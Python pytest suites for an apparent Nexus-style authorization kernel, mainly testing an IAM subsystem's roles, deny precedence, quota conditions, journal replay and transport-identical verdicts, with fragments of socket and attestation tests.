                    binwire.frame_payload(buffer))
                assert isinstance(decoded, msg.ErrorResponse)
                assert decoded.code == E_BAD_REQUEST
                # Still alive: a well-formed HTTP request round-trips.
                probe = HTTPRequest("GET", "/api/v1/", {}).to_bytes()
                sock.sendall(probe)
                assert parse_response(sock.recv(65536)).status == 200
        finally:
            server.stop()

    def test_binary_frame_to_json_only_server_is_refused_loudly(self):
        service = NexusService()
        server = SocketServer(service.router(), workers=1)
        host, port = server.start()
        try:
            with socket.create_connection((host, port)) as sock:
                sock.sendall(binwire.frame(binwire.encode_value({})))
                raw = sock.recv(65536)
                decoded = msg.decode_response_binary(
                    binwire.frame_payload(raw))
                assert isinstance(decoded, msg.ErrorResponse)
                assert decoded.code == E_BAD_REQUEST
                assert "not enabled" in decoded.message
                assert sock.recv(65536) == b""
        finally:
            server.stop()
