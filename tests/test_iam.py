"""The IAM subsystem: documents → NAL goals + deny table + authorities.

Four layers of coverage:

* the document model's strict validation;
* the engine: versioned roles, bindings, compilation (balanced OR-tree
  goals, sentinel rule, authority hints), apply, deny precedence and
  simulation against a raw kernel;
* the :class:`~repro.kernel.authority.QuotaAuthority` token-bucket
  semantics (retraction, refill, thread safety);
* durability (WAL replay + snapshot restore) and the differential
  transports — IAM verdicts must be byte-identical across direct, HTTP
  and the forked cluster fleet.
"""

import threading

import pytest

from repro.api import ApiError, NexusClient, NexusService
from repro.core.attestation import kernel_wallet_bundle
from repro.errors import IamError, NoSuchRole
from repro.iam import (CLOCK_PORT, POLICY_SET, QUOTA_PORT, Condition,
                       IamEngine, Role, Statement, role_set_name,
                       use_statement)
from repro.kernel.authority import QuotaAuthority
from repro.kernel.kernel import NexusKernel
from repro.nal.parser import parse
from repro.policy import PolicySet
from repro.storage.backend import MemoryBackend

from harness import run_cluster_differential, run_differential


def _kernel():
    return NexusKernel(key_seed=42)


def _reader_role(name="reader", resources=("/files/*",),
                 conditions=()):
    return Role(name, (Statement("s1", "Allow", ("read",), resources,
                                 conditions),))


def _deny_role(name="lockdown", resources=("/secrets/*",)):
    return Role(name, (Statement("d1", "Deny", ("*",), resources),))


def _setup(kernel, roles, bindings, resources=("/files/a", "/secrets/k")):
    """Admin + subject processes, resources, and an applied IAM config.

    Returns (admin process, subject process, {name: resource}).
    """
    admin = kernel.create_process("admin")
    subject = kernel.create_process("alice")
    made = {name: kernel.resources.create(name, "file", admin.principal)
            for name in resources}
    for role in roles:
        kernel.iam.put_role(role)
    for role_name in bindings:
        kernel.iam.bind(str(subject.principal), role_name)
    kernel.iam.apply(admin.pid)
    return admin, subject, made


def _wallet_verdict(kernel, subject, operation, resource):
    bundle = kernel_wallet_bundle(kernel, subject.pid, operation,
                                  resource)
    return kernel.authorize(subject.pid, operation, resource.resource_id,
                            bundle)


# --------------------------------------------------------------------------
# the document model
# --------------------------------------------------------------------------

class TestModelValidation:
    def test_role_round_trips_through_dict_form(self):
        role = Role("dev", (
            Statement("s1", "Allow", ("read", "write"), ("/files/*",),
                      (Condition("time-before", at=99),
                       Condition("rate-tier", tier="gold", capacity=5,
                                 refill_rate=0.5))),
            Statement("s2", "Deny", ("*",), ("/vault/*",)),
        ), description="a developer")
        assert Role.from_dict(role.to_dict()) == role

    def test_deny_rejects_conditions(self):
        with pytest.raises(IamError, match="no conditional negative"):
            Statement("d", "Deny", ("*",), ("/x",),
                      (Condition("time-before", at=5),))

    def test_allow_rejects_wildcard_action(self):
        with pytest.raises(IamError, match="concrete action"):
            Statement("s", "Allow", ("*",), ("/x",))

    def test_unknown_effect_and_fields_rejected(self):
        with pytest.raises(IamError, match="effect"):
            Statement("s", "Maybe", ("read",), ("/x",))
        with pytest.raises(IamError, match="unknown"):
            Role.from_dict({"name": "r", "statements": [
                {"sid": "s", "effect": "Allow", "actions": ["read"],
                 "resources": ["/x"]}], "extra": 1})

    def test_duplicate_sids_rejected(self):
        statement = Statement("s1", "Allow", ("read",), ("/x",))
        with pytest.raises(IamError, match="duplicate"):
            Role("r", (statement, statement))

    def test_condition_kinds_are_closed(self):
        with pytest.raises(IamError, match="condition kind"):
            Condition("ip-range")
        with pytest.raises(IamError, match="capacity"):
            Condition("rate-tier", tier="gold", capacity=0)

    def test_statement_matching_globs_and_wildcard(self):
        deny = Statement("d", "Deny", ("*",), ("/secrets/*",))
        assert deny.matches("anything", "/secrets/key")
        assert not deny.matches("read", "/files/a")
        allow = Statement("s", "Allow", ("read",), ("/files/*",))
        assert not allow.matches("write", "/files/a")


# --------------------------------------------------------------------------
# the engine against a raw kernel
# --------------------------------------------------------------------------

class TestEngine:
    def test_roles_are_versioned_and_bindings_validated(self):
        kernel = _kernel()
        assert kernel.iam.put_role(_reader_role()) == 1
        assert kernel.iam.put_role(_reader_role()) == 2
        assert kernel.iam.versions("reader") == [1, 2]
        with pytest.raises(NoSuchRole):
            kernel.iam.role("ghost")
        with pytest.raises(NoSuchRole):
            kernel.iam.role("reader", 3)
        with pytest.raises(NoSuchRole):
            kernel.iam.bind("p", "ghost")
        kernel.iam.bind("p", "reader")
        # idempotent: re-binding and re-unbinding are no-ops
        assert kernel.iam.bind("p", "reader") == 1
        assert kernel.iam.bind("p", "reader", bound=False) == 0
        assert kernel.iam.bind("p", "reader", bound=False) == 0

    def test_allow_path_and_deny_precedence(self):
        kernel = _kernel()
        _admin, alice, resources = _setup(
            kernel, [_reader_role(), _deny_role()],
            ["reader", "lockdown"])
        kernel.sys_say(alice.pid, use_statement("reader"))
        allowed = _wallet_verdict(kernel, alice, "read",
                                  resources["/files/a"])
        assert allowed.allow and allowed.cacheable
        # The deny table wins without any proof search, non-cacheable.
        denied = kernel.authorize(
            alice.pid, "read", resources["/secrets/k"].resource_id)
        assert not denied.allow and not denied.cacheable
        assert "lockdown/d1" in denied.reason
        explained = kernel.explain(
            alice.pid, "read", resources["/secrets/k"].resource_id)
        assert explained.explanation.kind == "iam-deny"
        assert explained.explanation.premise == "lockdown/d1"

    def test_deny_beats_any_allow_on_the_same_pair(self):
        kernel = _kernel()
        _admin, alice, resources = _setup(
            kernel,
            [_reader_role(resources=("/secrets/*",)),
             _deny_role(resources=("/secrets/*",))],
            ["reader", "lockdown"])
        kernel.sys_say(alice.pid, use_statement("reader"))
        resource = resources["/secrets/k"]
        # The Allow goal is installed and provable...
        bundle = kernel_wallet_bundle(kernel, alice.pid, "read", resource)
        assert bundle is not None
        # ...and the explicit Deny still wins.
        verdict = kernel.authorize(alice.pid, "read",
                                   resource.resource_id, bundle)
        assert not verdict.allow
        assert "lockdown/d1" in verdict.reason

    def test_unbinding_and_reapplying_lifts_the_deny(self):
        kernel = _kernel()
        admin, alice, resources = _setup(
            kernel, [_reader_role(), _deny_role()],
            ["reader", "lockdown"])
        resource = resources["/secrets/k"]
        assert not kernel.authorize(alice.pid, "read",
                                    resource.resource_id).allow
        kernel.iam.bind(str(alice.principal), "lockdown", bound=False)
        kernel.iam.apply(admin.pid)
        verdict = kernel.authorize(alice.pid, "read",
                                   resource.resource_id)
        assert verdict.explanation.kind == "default-policy"

    def test_goals_compile_as_balanced_or_tree_over_principals(self):
        kernel = _kernel()
        admin = kernel.create_process("admin")
        resource = kernel.resources.create("/files/a", "file",
                                           admin.principal)
        kernel.iam.put_role(_reader_role())
        principals = []
        for index in range(64):
            process = kernel.create_process(f"user-{index}")
            principals.append(process)
            kernel.iam.bind(str(process.principal), "reader")
        kernel.iam.apply(admin.pid)
        # Every bound principal can discharge the goal despite the
        # prover's bounded search depth (a linear chain could not).
        for process in (principals[0], principals[31], principals[63]):
            kernel.sys_say(process.pid, use_statement("reader"))
            assert _wallet_verdict(kernel, process, "read",
                                   resource).allow

    def test_empty_compile_clears_previous_goals(self):
        kernel = _kernel()
        admin, alice, resources = _setup(kernel, [_reader_role()],
                                         ["reader"])
        resource = resources["/files/a"]
        goals = kernel.default_guard.goals
        assert goals.get(resource.resource_id, "read") is not None
        kernel.iam.bind(str(alice.principal), "reader", bound=False)
        result = kernel.iam.apply(admin.pid)
        assert result.cleared == 1
        assert goals.get(resource.resource_id, "read") is None
        # Per-role layout: the role's own set advanced to a clearing
        # version; no monolithic "iam" set was ever created.
        assert kernel.policies.active_version(role_set_name("reader")) == 2
        assert kernel.policies.active_version(POLICY_SET) is None

    def test_apply_flushes_stale_cached_allows(self):
        kernel = _kernel()
        admin, alice, resources = _setup(kernel, [_reader_role()],
                                         ["reader"])
        resource = resources["/files/a"]
        kernel.sys_say(alice.pid, use_statement("reader"))
        assert _wallet_verdict(kernel, alice, "read", resource).allow
        # The allow verdict is now cached; an apply that introduces a
        # Deny must retire it, not serve it.
        kernel.iam.put_role(_deny_role(resources=("/files/*",)))
        kernel.iam.bind(str(alice.principal), "lockdown")
        kernel.iam.apply(admin.pid)
        verdict = _wallet_verdict(kernel, alice, "read", resource)
        assert not verdict.allow
        assert "lockdown/d1" in verdict.reason

    def test_time_window_condition_is_dynamic(self):
        kernel = _kernel()
        _admin, alice, resources = _setup(
            kernel,
            [_reader_role(conditions=(
                Condition("time-before", at=10**9),))],
            ["reader"])
        kernel.sys_say(alice.pid, use_statement("reader"))
        verdict = _wallet_verdict(kernel, alice, "read",
                                  resources["/files/a"])
        assert verdict.allow and not verdict.cacheable
        simulated = kernel.iam.simulate(str(alice.principal), "read",
                                        "/files/a")
        assert simulated.effect == "Allow"
        assert simulated.conditions_hold is True

    def test_expired_time_window_denies(self):
        kernel = _kernel()
        _admin, alice, resources = _setup(
            kernel,
            [_reader_role(conditions=(Condition("time-after",
                                                at=10**9),))],
            ["reader"])
        kernel.sys_say(alice.pid, use_statement("reader"))
        verdict = _wallet_verdict(kernel, alice, "read",
                                  resources["/files/a"])
        assert not verdict.allow
        assert verdict.explanation.kind == "authority-denied"
        assert verdict.explanation.authority == CLOCK_PORT

    def test_rate_tier_meters_and_exhausts(self):
        kernel = _kernel()
        _admin, alice, resources = _setup(
            kernel,
            [_reader_role(conditions=(
                Condition("rate-tier", tier="gold", capacity=3),))],
            ["reader"])
        kernel.sys_say(alice.pid, use_statement("reader"))
        resource = resources["/files/a"]
        outcomes = [_wallet_verdict(kernel, alice, "read", resource)
                    for _ in range(5)]
        assert [v.allow for v in outcomes] == [True] * 3 + [False] * 2
        assert all(not v.cacheable for v in outcomes)
        assert outcomes[-1].explanation.authority == QUOTA_PORT
        # Simulation peeks without spending what is left.
        simulated = kernel.iam.simulate(str(alice.principal), "read",
                                        "/files/a")
        assert simulated.conditions_hold is False

    def test_engine_owns_its_authority_ports(self):
        kernel = _kernel()
        kernel.register_authority(QUOTA_PORT, QuotaAuthority())
        _admin = kernel.create_process("admin")
        kernel.iam.put_role(_reader_role(conditions=(
            Condition("rate-tier", tier="gold", capacity=1),)))
        kernel.iam.bind("p", "reader")
        with pytest.raises(IamError, match="already"):
            kernel.iam.apply(_admin.pid)

    def test_simulate_needs_no_live_resource(self):
        kernel = _kernel()
        kernel.iam.put_role(_deny_role())
        kernel.iam.bind("p", "lockdown")
        verdict = kernel.iam.simulate("p", "write", "/secrets/future")
        assert verdict.effect == "Deny"
        assert kernel.iam.simulate("q", "write",
                                   "/secrets/future").effect == "Default"

    def test_tilde_role_names_are_reserved(self):
        kernel = _kernel()
        with pytest.raises(IamError, match="reserved"):
            kernel.iam.put_role(Role("~shared", (
                Statement("s1", "Allow", ("read",), ("/files/*",)),)))

    def test_incremental_apply_recompiles_only_changed_roles(self):
        kernel = _kernel()

        def writer(resources=("/files/*",)):
            return Role("writer", (
                Statement("s1", "Allow", ("write",), resources),))

        admin, alice, resources = _setup(
            kernel, [_reader_role(), writer()], ["reader", "writer"])
        # Second apply with nothing edited: everything reused, nothing
        # installed, and no goal epochs touched.
        result = kernel.iam.apply(admin.pid)
        assert result.roles_compiled == 0
        assert result.roles_reused == 2
        assert result.sets_changed == 0
        assert result.set_count == 0 and result.epoch_bumps == 0
        # Touch one role: only it recompiles, only its set reinstalls.
        kernel.iam.put_role(writer(resources=("/files/*", "/secrets/*")))
        result = kernel.iam.apply(admin.pid)
        assert result.roles_compiled == 1
        assert result.roles_reused == 1
        assert result.sets_changed == 1
        assert kernel.policies.active_version(role_set_name("writer")) == 2
        assert kernel.policies.active_version(role_set_name("reader")) == 1

    def test_untouched_roles_keep_cached_verdicts_across_apply(self):
        kernel = _kernel()
        admin, alice, resources = _setup(
            kernel, [_reader_role(), _reader_role("writer")], ["reader"])
        resource = resources["/files/a"]
        kernel.sys_say(alice.pid, use_statement("reader"))
        assert _wallet_verdict(kernel, alice, "read", resource).allow
        hits_before = kernel.decision_cache.stats.hits
        # Rebinding a different role must not retire reader's verdict.
        kernel.iam.bind("someone-else", "writer")
        kernel.iam.apply(admin.pid)
        assert _wallet_verdict(kernel, alice, "read", resource).allow
        assert kernel.decision_cache.stats.hits > hits_before

    def test_overlapping_roles_share_one_goal(self):
        kernel = _kernel()
        admin, alice, resources = _setup(
            kernel,
            [_reader_role(), _reader_role("auditor")],
            ["reader", "auditor"])
        shared = kernel.policies.active_version("iam/~shared")
        assert shared == 1
        resource = resources["/files/a"]
        entry = kernel.default_guard.goals.get(resource.resource_id,
                                               "read")
        text = str(entry.formula)
        assert use_statement("reader") in text
        assert use_statement("auditor") in text
        # Unbinding one role moves the pair back to the other's set.
        kernel.iam.bind(str(alice.principal), "auditor", bound=False)
        kernel.iam.apply(admin.pid)
        entry = kernel.default_guard.goals.get(resource.resource_id,
                                               "read")
        assert use_statement("auditor") not in str(entry.formula)
        assert (resource.resource_id, "read") in \
            kernel.policies.installed_pairs(role_set_name("reader"))
        assert kernel.policies.installed_pairs("iam/~shared") == set()

    def test_deny_and_binding_index_match_linear_scan(self):
        """The per-principal indexes answer exactly like the pre-index
        linear scans over the whole deny table / binding list."""
        kernel = _kernel()
        admin = kernel.create_process("admin")
        roles = [
            _reader_role(),
            _deny_role(),
            _deny_role("quarantine", resources=("/files/*", "/tmp/*")),
            Role("mixed", (
                Statement("a1", "Allow", ("write",), ("/files/*",)),
                Statement("d9", "Deny", ("read",), ("/files/b",)),
            )),
        ]
        for role in roles:
            kernel.iam.put_role(role)
        bindings = [("p1", "reader"), ("p1", "lockdown"),
                    ("p2", "quarantine"), ("p2", "mixed"),
                    ("p3", "mixed"), ("p1", "quarantine")]
        for principal, role_name in bindings:
            kernel.iam.bind(principal, role_name)
        kernel.iam.bind("p1", "quarantine", bound=False)
        kernel.iam.apply(admin.pid)

        stub = lambda name: type("R", (), {"name": name})()
        subjects = ("p1", "p2", "p3", "stranger")
        cases = [(a, n) for a in ("read", "write", "poke")
                 for n in ("/files/a", "/files/b", "/secrets/k",
                           "/tmp/x", "/elsewhere")]
        for subject in subjects:
            for action, name in cases:
                reference = next(
                    ((e.role, e.sid) for e in kernel.iam._deny
                     if e.matches(subject, action, name)), None)
                assert kernel.iam.guard_deny(subject, action,
                                             stub(name)) == reference
                bound = sorted({r for p, r in kernel.iam.bindings()
                                if p == subject})
                simulated = kernel.iam.simulate(subject, action, name)
                expected_roles = {r for r in bound}
                if simulated.role is not None:
                    assert simulated.role in expected_roles
                if not bound:
                    assert simulated.effect == "Default"


# --------------------------------------------------------------------------
# the quota authority on its own
# --------------------------------------------------------------------------

class TestQuotaAuthority:
    def _statement(self, principal="p", tier="gold"):
        return parse(f"QuotaMeter says within_quota({principal}, {tier})")

    def test_spend_exhaust_refill(self):
        quota = QuotaAuthority()
        quota.define_tier("gold", capacity=2)
        statement = self._statement()
        assert quota.decides(statement) is True
        assert quota.decides(statement) is True
        assert quota.decides(statement) is False
        quota.refill("p", "gold")
        assert quota.decides(statement) is True

    def test_peek_never_spends(self):
        quota = QuotaAuthority()
        quota.define_tier("gold", capacity=1)
        statement = self._statement()
        for _ in range(3):
            assert quota.peek(statement) is True
        assert quota.remaining("p", "gold") == 1.0

    def test_retraction_denies_until_regrant(self):
        quota = QuotaAuthority()
        quota.define_tier("gold", capacity=5)
        statement = self._statement()
        assert quota.decides(statement) is True
        quota.retract("p", "gold")
        assert quota.decides(statement) is False
        assert quota.peek(statement) is False
        quota.grant("p", "gold")
        assert quota.decides(statement) is True
        assert quota.remaining("p", "gold") == 4.0

    def test_elapsed_time_refills_at_tier_rate(self):
        clock = [0.0]
        quota = QuotaAuthority(clock=lambda: clock[0])
        quota.define_tier("gold", capacity=2, refill_rate=1.0)
        statement = self._statement()
        assert quota.decides(statement) is True
        assert quota.decides(statement) is True
        assert quota.decides(statement) is False
        clock[0] = 1.5
        assert quota.decides(statement) is True
        assert quota.remaining("p", "gold") == 0.5

    def test_foreign_statements_and_undefined_tiers_decline(self):
        quota = QuotaAuthority()
        quota.define_tier("gold", capacity=1)
        assert quota.decides(parse("NTP says TimeNow < 5")) is None
        assert quota.decides(self._statement(tier="iron")) is None
        assert quota.remaining("p", "iron") is None

    def test_redefining_a_tier_clamps_existing_buckets(self):
        quota = QuotaAuthority()
        quota.define_tier("gold", capacity=10)
        statement = self._statement()
        assert quota.decides(statement) is True
        quota.define_tier("gold", capacity=2)
        assert quota.remaining("p", "gold") == 2.0

    def test_concurrent_spend_never_overspends(self):
        quota = QuotaAuthority()
        capacity = 64
        quota.define_tier("gold", capacity=capacity)
        statement = self._statement()
        grants = []
        lock = threading.Lock()
        barrier = threading.Barrier(8)

        def spend():
            barrier.wait()
            mine = sum(1 for _ in range(32)
                       if quota.decides(statement))
            with lock:
                grants.append(mine)

        threads = [threading.Thread(target=spend) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        assert sum(grants) == capacity
        assert quota.remaining("p", "gold") == 0.0


# --------------------------------------------------------------------------
# durability: WAL replay and snapshot restore
# --------------------------------------------------------------------------

class TestDurability:
    def _configured(self, backend):
        kernel = _kernel()
        kernel.attach_storage(backend, sync_every=1)
        admin, alice, resources = _setup(
            kernel,
            [_reader_role(conditions=(
                Condition("rate-tier", tier="gold", capacity=10),)),
             _deny_role()],
            ["reader", "lockdown"])
        kernel.sys_say(alice.pid, use_statement("reader"))
        return kernel, admin, alice, resources

    def _assert_enforced(self, kernel, alice, resources):
        allowed = _wallet_verdict(kernel, alice, "read",
                                  resources["/files/a"])
        assert allowed.allow and not allowed.cacheable
        denied = kernel.explain(alice.pid, "read",
                                resources["/secrets/k"].resource_id)
        assert denied.explanation.kind == "iam-deny"

    def test_wal_replay_restores_roles_denies_and_tiers(self):
        backend = MemoryBackend()
        kernel, _admin, alice, resources = self._configured(backend)
        restored = NexusKernel.restore(backend, key_seed=42)
        assert restored.iam.names() == ["lockdown", "reader"]
        assert restored.iam.applied_versions() == {"lockdown": 1,
                                                   "reader": 1}
        assert restored.iam.bindings() == kernel.iam.bindings()
        assert restored.iam.quota_authority.tiers() == {"gold": (10, 0.0)}
        self._assert_enforced(restored, alice, resources)

    def test_snapshot_restores_the_same_state(self):
        backend = MemoryBackend()
        kernel, _admin, alice, resources = self._configured(backend)
        kernel.snapshot_now()
        restored = NexusKernel.restore(backend, key_seed=42)
        assert restored.storage_stats()["restored_records"] == 0
        assert restored.iam.applied_versions() == {"lockdown": 1,
                                                   "reader": 1}
        self._assert_enforced(restored, alice, resources)

    def test_unapplied_drafts_survive_without_enforcement(self):
        backend = MemoryBackend()
        kernel = _kernel()
        kernel.attach_storage(backend, sync_every=1)
        kernel.iam.put_role(_deny_role())
        kernel.iam.bind("p", "lockdown")
        restored = NexusKernel.restore(backend, key_seed=42)
        assert restored.iam.names() == ["lockdown"]
        assert restored.iam.bindings() == [("p", "lockdown")]
        assert restored.iam.applied_versions() == {}
        # Not applied → no deny table.
        assert restored.iam.guard_deny("p", "read",
                                       type("R", (), {"name":
                                            "/secrets/k"})()) is None

    def test_legacy_monolithic_journal_migrates_to_per_role_sets(self):
        """Journals written before the per-role split (one monolithic
        ``iam`` set + one blob-shaped ``iam_state`` record) must replay
        correctly, and the first apply afterwards must migrate in place
        — per-role sets adopt every pair without touching a goal."""
        backend = MemoryBackend()
        kernel = _kernel()
        kernel.attach_storage(backend, sync_every=1)
        admin = kernel.create_process("admin")
        alice = kernel.create_process("alice")
        resources = {name: kernel.resources.create(name, "file",
                                                   admin.principal)
                     for name in ("/files/a", "/secrets/k")}
        kernel.iam.put_role(_reader_role())
        kernel.iam.put_role(_deny_role())
        kernel.iam.bind(str(alice.principal), "reader")
        kernel.iam.bind(str(alice.principal), "lockdown")
        kernel.sys_say(alice.pid, use_statement("reader"))

        # Emulate the pre-split apply: every compiled rule in one
        # monolithic set, journalled with the old blob record shape.
        compiled = kernel.iam.compile()
        rules = tuple(rule for document in compiled.policy_sets
                      for rule in document.rules if rule.goal is not None)
        version = kernel.policies.put(PolicySet(POLICY_SET, rules))
        kernel.policies.apply(admin.pid, POLICY_SET, version)
        legacy = {"applied": {"reader": 1, "lockdown": 1},
                  "bindings": [[str(alice.principal), "reader"],
                               [str(alice.principal), "lockdown"]]}
        with kernel._state_lock.write_locked():
            kernel.iam._persist("iam_state", legacy)
            kernel.iam.restore_applied(legacy)
        kernel.bump_policy_epoch()

        def enforced(node):
            allowed = _wallet_verdict(node, alice, "read",
                                      resources["/files/a"])
            assert allowed.allow
            denied = node.explain(alice.pid, "read",
                                  resources["/secrets/k"].resource_id)
            assert denied.explanation.kind == "iam-deny"

        restored = NexusKernel.restore(backend, key_seed=42)
        assert restored.policies.active_version(POLICY_SET) == 1
        assert restored.iam.applied_versions() == {"lockdown": 1,
                                                   "reader": 1}
        enforced(restored)

        # First apply migrates: per-role sets adopt the pairs with
        # byte-identical goals (KEEP), the monolith retires, and no
        # goal epoch or cached verdict is disturbed.
        epoch = restored.decision_cache.policy_epoch
        result = restored.iam.apply(admin.pid)
        assert result.set_count == 0 and result.cleared == 0
        assert result.epoch_bumps == 0
        assert restored.decision_cache.policy_epoch == epoch
        assert restored.policies.active_version(POLICY_SET) is None
        assert restored.policies.installed_pairs(POLICY_SET) == set()
        assert restored.policies.active_version(
            role_set_name("reader")) == 1
        pair = (resources["/files/a"].resource_id, "read")
        assert pair in restored.policies.installed_pairs(
            role_set_name("reader"))
        enforced(restored)

        # The journal now carries per-role records on top of the blob;
        # a further restore lands on the migrated layout directly.
        migrated = NexusKernel.restore(backend, key_seed=42)
        assert migrated.iam.applied_versions() == {"lockdown": 1,
                                                   "reader": 1}
        assert migrated.policies.active_version(POLICY_SET) is None
        enforced(migrated)

    def test_restore_uses_apply_time_bindings_not_later_edits(self):
        backend = MemoryBackend()
        kernel, admin, alice, resources = self._configured(backend)
        # Unbind after the apply: the draft changes, enforcement of the
        # *applied* configuration must not.
        kernel.iam.bind(str(alice.principal), "lockdown", bound=False)
        restored = NexusKernel.restore(backend, key_seed=42)
        denied = restored.explain(alice.pid, "read",
                                  resources["/secrets/k"].resource_id)
        assert denied.explanation.kind == "iam-deny"


# --------------------------------------------------------------------------
# the wire API
# --------------------------------------------------------------------------

class TestWireApi:
    def test_full_lifecycle_over_any_transport(self, api_world):
        admin = api_world.admin()
        alice = api_world.open("alice")
        admin.create_resource("/files/a", "file")
        admin.create_resource("/secrets/k", "file")
        put = admin.put_role(_reader_role())
        assert (put.role, put.version) == ("reader", 1)
        admin.put_role(_deny_role())
        bind = admin.bind_role(alice.principal, "reader")
        assert bind.bindings == 1
        admin.bind_role(alice.principal, "lockdown")
        plan = admin.iam_plan()
        assert plan.roles == {"reader": 1, "lockdown": 1}
        assert plan.denies == 1 and plan.goals == 1
        assert [a.action for a in plan.actions] == ["set"]
        applied = admin.iam_apply()
        assert applied.set_count == 1 and applied.denies == 1
        alice.say(use_statement("reader"))
        assert alice.authorize("read", "/files/a", wallet=True).allow
        denied = alice.explain("read", "/secrets/k")
        assert denied.explanation.kind == "iam-deny"
        assert denied.explanation.premise == "lockdown/d1"
        simulated = admin.iam_simulate(alice.principal, "read",
                                       "/secrets/k")
        assert (simulated.effect, simulated.sid) == ("Deny", "d1")

    def test_error_codes_are_stable(self, api_world):
        admin = api_world.admin()
        with pytest.raises(ApiError) as no_role:
            admin.bind_role("p", "ghost")
        assert no_role.value.code == "E_NO_SUCH_ROLE"
        with pytest.raises(ApiError) as bad_doc:
            admin.put_role({"name": "x", "statements": [
                {"sid": "s", "effect": "Sometimes",
                 "actions": ["read"], "resources": ["/x"]}]})
        assert bad_doc.value.code == "E_IAM"

    def test_introspection_lists_applied_roles(self, api_world):
        admin = api_world.admin()
        admin.create_resource("/files/a", "file")
        api_world.install_iam([_reader_role()], [("p", "reader")])
        text = api_world.kernel.introspection.read(
            "/proc/kernel/iam_roles")
        assert text.splitlines()[0] == "reader@v1"
        stats = dict(line.split("=", 1) for line in text.splitlines()[1:])
        assert stats["applies"] == "1"
        assert stats["roles_compiled"] == "1"


# --------------------------------------------------------------------------
# differential: one answer on every transport
# --------------------------------------------------------------------------

def _wire_capture(identity, operation, resource_name, wallet=True):
    """Wire-only observation (cluster worlds cannot reach the kernel)."""
    verdict = identity.authorize(operation, resource_name, wallet=wallet)
    explained = identity.explain(operation, resource_name, wallet=wallet)
    return {
        "authorize": {"allow": verdict.allow,
                      "cacheable": verdict.cacheable,
                      "reason": verdict.reason},
        "explanation": explained.explanation.to_dict(),
    }


def _iam_scenario(world):
    """Deny precedence + a metered condition leaf, wire-observable."""
    alice = world.identity("alice", [use_statement("reader")])
    admin = world.admin()
    admin.create_resource("/files/a", "file")
    admin.create_resource("/secrets/k", "file")
    applied = world.install_iam(
        roles=[
            _reader_role(conditions=(
                Condition("rate-tier", tier="gold", capacity=2),)),
            _deny_role(),
        ],
        bindings=[(alice.speaker, "reader"),
                  (alice.subject, "lockdown")])
    # Each capture spends two tokens (authorize + explain are separate
    # authority queries): capacity 2 confirms the first capture and
    # leaves the second an empty bucket.
    fresh = _wire_capture(alice, "read", "/files/a")
    exhausted = _wire_capture(alice, "read", "/files/a")
    denied = _wire_capture(alice, "read", "/secrets/k")
    return {"applied": {"roles": applied.roles, "denies": applied.denies,
                        "set": applied.set_count},
            "fresh": fresh, "exhausted": exhausted, "denied": denied}


def _assert_iam_document(document):
    assert document["applied"]["denies"] == 1
    assert document["fresh"]["authorize"]["allow"] is True
    assert document["fresh"]["authorize"]["cacheable"] is False
    assert document["exhausted"]["authorize"]["allow"] is False
    assert document["exhausted"]["explanation"]["kind"] == \
        "authority-denied"
    assert document["denied"]["authorize"]["allow"] is False
    assert document["denied"]["explanation"]["kind"] == "iam-deny"
    assert document["denied"]["explanation"]["premise"] == "lockdown/d1"


def _incremental_scenario(world):
    """A second apply after touching one role: the compile-reuse
    counters, the all-keep follow-up plan and the resulting verdicts
    must be wire-identical on every transport."""
    alice = world.identity("alice", [use_statement("reader"),
                                     use_statement("writer")])
    admin = world.admin()
    admin.create_resource("/files/a", "file")
    admin.create_resource("/docs/x", "file")
    first = world.install_iam(
        roles=[_reader_role(),
               Role("writer", (Statement("s1", "Allow", ("write",),
                                         ("/files/*",)),))],
        bindings=[(alice.speaker, "reader"), (alice.speaker, "writer")])
    admin.put_role(Role("writer", (
        Statement("s1", "Allow", ("write",), ("/files/*", "/docs/*")),)))
    second = admin.iam_apply()
    plan = admin.iam_plan()
    return {
        "first": {"set": first.set_count,
                  "roles_compiled": first.roles_compiled,
                  "roles_reused": first.roles_reused},
        "second": {"set": second.set_count,
                   "unchanged": second.unchanged,
                   "roles_compiled": second.roles_compiled,
                   "roles_reused": second.roles_reused,
                   "sets_changed": second.sets_changed,
                   "epoch_bumps": second.epoch_bumps},
        "plan_after": [a.action for a in plan.actions],
        "read": _wire_capture(alice, "read", "/files/a"),
        "write_new": _wire_capture(alice, "write", "/docs/x"),
    }


def _assert_incremental_document(document):
    assert document["first"]["roles_compiled"] == 2
    assert document["second"]["roles_compiled"] == 1
    assert document["second"]["roles_reused"] == 1
    assert document["second"]["sets_changed"] == 1
    # Only the new (/docs/x, write) pair installs; the two existing
    # goals are kept, so exactly one goal epoch moves.
    assert document["second"]["set"] == 1
    assert document["second"]["unchanged"] == 2
    assert document["second"]["epoch_bumps"] == 1
    assert document["plan_after"] == ["keep", "keep", "keep"]
    assert document["read"]["authorize"]["allow"] is True
    assert document["write_new"]["authorize"]["allow"] is True


class TestIamDifferential:
    def test_verdicts_identical_across_transports(self):
        _assert_iam_document(run_differential(_iam_scenario))

    def test_verdicts_identical_across_the_cluster(self):
        _assert_iam_document(run_cluster_differential(_iam_scenario))

    def test_incremental_apply_identical_across_transports(self):
        _assert_incremental_document(
            run_differential(_incremental_scenario))

    def test_incremental_apply_identical_across_the_cluster(self):
        _assert_incremental_document(
            run_cluster_differential(_incremental_scenario))
