"""Cross-module integration tests: whole-system scenarios that exercise
the stack the way the paper's deployment does."""

import pytest

from repro import CredentialSet, Nexus
from repro.analysis import IPCConnectivityAnalyzer
from repro.apps.fauxbook import FauxbookStack
from repro.errors import AccessDenied, BootError
from repro.fs import FileServer
from repro.kernel import ClockAuthority, NexusKernel, StatementSetAuthority
from repro.nal import parse
from repro.nal.proof import ProofBundle
from repro.nal.prover import Prover
from repro.storage import SecureStorageRegion, VDIRRegistry
from repro.tpm import Machine, SoftwareStack, TPM, boot_nexus


class TestCrossPlatformAttestation:
    """Labels travel between two independently booted platforms."""

    def test_externalized_label_crosses_machines(self):
        producer = NexusKernel(key_seed=7001)
        consumer = NexusKernel(key_seed=7002)
        prover_proc = producer.create_process("analyzer")
        label = producer.sys_say(prover_proc.pid, "isTypeSafe(PGM)")
        chain = producer.externalize_label(label)

        importer = consumer.create_process("importer")
        imported = consumer.import_label_chain(chain, importer.pid)
        # The statement arrives attributed to the remote platform chain.
        assert str(imported.statement) == "isTypeSafe(PGM)"
        assert consumer.labels.holds(imported.formula)

    def test_imported_label_usable_in_authorization(self):
        producer = NexusKernel(key_seed=7001)
        consumer = NexusKernel(key_seed=7002)
        certifier = producer.create_process("certifier")
        label = producer.sys_say(certifier.pid, "vetted(app-blob)")
